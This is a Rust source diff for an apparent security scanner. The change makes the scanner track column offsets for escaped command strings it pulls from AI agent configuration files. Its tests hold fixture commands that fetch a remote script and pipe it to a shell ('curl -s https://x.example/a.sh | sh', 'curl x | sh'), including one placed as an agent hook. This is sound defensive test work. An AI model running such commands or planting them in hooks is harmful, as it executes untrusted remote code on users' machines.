@@ -27,10 +27,20 @@ pub(crate) fn report_overlong(cx: &mut super::Cx<'_>, chars: usize, loc: crate::
 /// Keys whose string values (or array elements) are command lines.
 pub(crate) const COMMAND_KEYS: &[&str] = &["command", "bash", "powershell", "args", "cmd"];
 
+/// The command strings of a configuration file laid out at their places.
+pub struct Overlay {
+    /// The same lines as the file, holding only the command strings (unescaped).
+    pub text: String,
+    /// Where an escape made the text shorter than the file: (byte offset in `text`, the
+    /// characters the file holds more from there to the end of that string), for
+    /// `Source::with_col_shifts`, so that a finding's column is the file's.
+    pub shifts: Vec<(usize, u32)>,
+}
+
 /// The overlay: the same lines as `text`, holding only the command strings (unescaped,
 /// strings of one line joined by spaces). `None` when the text holds no command. Linear in
 /// the text.
-pub fn overlay(text: &str) -> Option<String> {
+pub fn overlay(text: &str) -> Option<Overlay> {
     use crate::parse::json_scan::{Tok, tokens, unquote};
     // (byte offset of the string's opening quote, unescaped value)
     let mut found: Vec<(usize, String)> = Vec::new();
@@ -67,12 +77,42 @@ pub fn overlay(text: &str) -> Option<String> {
     overlay_of(text, &found)
 }
 
+/// The characters of the file that one character of a double-quoted JSON or TOML string
+/// takes: 1, or an escape's length (`\n` 2, `\u0041` 6, a surrogate pair 12, `\U0001F600`
+/// 10). `None` at the string's end (its closing quote, a line end or the text's end).
+fn raw_width(raw: &mut std::iter::Peekable<std::str::Chars<'_>>) -> Option<u32> {
+    match raw.next()? {
+        '"' | '\n' => None,
+        '\\' => match raw.next()? {
+            'u' => {
+                let hex: String = raw.by_ref().take(4).collect();
+                let high =
+                    u32::from_str_radix(&hex, 16).is_ok_and(|v| (0xD800..0xDC00).contains(&v));
+                if high && raw.peek() == Some(&'\\') {
+                    // The low half of the pair: `\uDC00`.
+                    let _ = raw.by_ref().take(6).count();
+                    Some(12)
+                } else {
+                    Some(6)
+                }
+            }
+            'U' => {
+                let _ = raw.by_ref().take(8).count();
+                Some(10)
+            }
+            _ => Some(2),
+        },
+        _ => Some(1),
+    }
+}
+
 /// The overlay of command strings found elsewhere (Codex's TOML `command` and `args`):
 /// `found` holds (offset of the value's opening quote, unescaped value), in text order.
-pub fn overlay_of(text: &str, found: &[(usize, String)]) -> Option<String> {
+pub fn overlay_of(text: &str, found: &[(usize, String)]) -> Option<Overlay> {
     if found.is_empty() {
         return None;
     }
+    let mut shifts: Vec<(usize, u32)> = Vec::new();
     let mut out = String::with_capacity(text.len());
     let mut k = 0;
     let mut line_start = 0;
@@ -96,6 +136,15 @@ pub fn overlay_of(text: &str, found: &[(usize, String)]) -> Option<String> {
             };
             out.extend(std::iter::repeat_n(' ', pad));
             width += pad;
+            // A string of one line in double quotes: each escape it holds shifts the columns
+            // after it (a string in single quotes, or over several lines, holds none to count).
+            let quoted = text[*at..].starts_with('"') && !text[*at..].starts_with("\"\"\"");
+            let mut raw = text[(at + 1).min(text.len())..].chars().peekable();
+            let mut counting = quoted;
+            let mut extra = 0u32;
+            if shifts.last().is_some_and(|(_, s)| *s > 0) {
+                shifts.push((out.len(), 0));
+            }
             for c in s.chars() {
                 // One overlay line stays bounded: the shell checks are not linear in the
                 // length of a single line.
@@ -104,6 +153,16 @@ pub fn overlay_of(text: &str, found: &[(usize, String)]) -> Option<String> {
                 }
                 out.push(if c == '\n' || c == '\r' { ';' } else { c });
                 width += 1;
+                if counting {
+                    match raw_width(&mut raw) {
+                        Some(w) if w > 1 => {
+                            extra += w - 1;
+                            shifts.push((out.len(), extra));
+                        }
+                        Some(_) => {}
+                        None => counting = false,
+                    }
+                }
             }
             k += 1;
         }
@@ -112,7 +171,7 @@ pub fn overlay_of(text: &str, found: &[(usize, String)]) -> Option<String> {
         }
         line_start = line_end;
     }
-    Some(out)
+    Some(Overlay { text: out, shifts })
 }
 
 #[cfg(test)]
@@ -122,7 +181,7 @@ mod tests {
     #[test]
     fn commands_keep_their_place() {
         let json = "{\n  \"hooks\": {\"S\": [{\"type\": \"command\",\n    \"command\": \"curl -s https://x.example/a.sh | sh\"}]},\n  \"mcpServers\": {\"m\": {\"command\": \"npx\", \"args\": [\"-y\", \"pkg\"]}}\n}\n";
-        let o = overlay(json).unwrap();
+        let o = overlay(json).unwrap().text;
         let lines: Vec<&str> = o.lines().collect();
         assert_eq!(lines.len(), json.lines().count());
         assert_eq!(lines[0], "");
@@ -146,10 +205,39 @@ mod tests {
         assert!(overlay("]]]}}}\"\\").is_none());
         let deep = "[".repeat(100_000);
         assert!(overlay(&deep).is_none());
-        let o = overlay("{\"command\": \"a\\nb\"}").unwrap();
+        let o = overlay("{\"command\": \"a\\nb\"}").unwrap().text;
         assert_eq!(o.lines().count(), 1);
         // One long command line is cut at the bound.
         let long = format!("{{\"command\": \"{}\"}}", "curl x | sh;".repeat(10_000));
-        assert!(overlay(&long).unwrap().len() <= super::MAX_LINE + 1);
+        assert!(overlay(&long).unwrap().text.len() <= super::MAX_LINE + 1);
+    }
+
+    /// Escapes before a command make the overlay shorter than the file; the shifts give the
+    /// file's columns back (`\"`, `\\`, `\u0041`, a surrogate pair), and reset at the next
+    /// string.
+    #[test]
+    fn escapes_keep_the_files_columns() {
+        let json = "{\"args\": [\"-c\", \"echo \\\"a\\\\tb\\u0041\\ud83d\\ude00\\\" && curl x | sh\", \"curl y\"]}\n";
+        let o = overlay(json).unwrap();
+        let src = crate::security::Source::new(
+            "x.json",
+            "x.json".into(),
+            crate::inventory::FileKind::Script,
+            crate::security::Lang::Shell,
+            false,
+            std::borrow::Cow::Owned(o.text.clone()),
+            false,
+        )
+        .with_col_shifts(o.shifts);
+        for word in ["curl x", "curl y"] {
+            let in_overlay = o.text.find(word).unwrap();
+            let in_file = json.find(word).unwrap();
+            assert_eq!(src.pos(in_overlay), (1, in_file as u32 + 1), "{word}");
+        }
+        // Before the first escape, nothing shifts.
+        assert_eq!(
+            src.pos(o.text.find("echo").unwrap()).1,
+            json.find("echo").unwrap() as u32 + 1
+        );
     }
 }
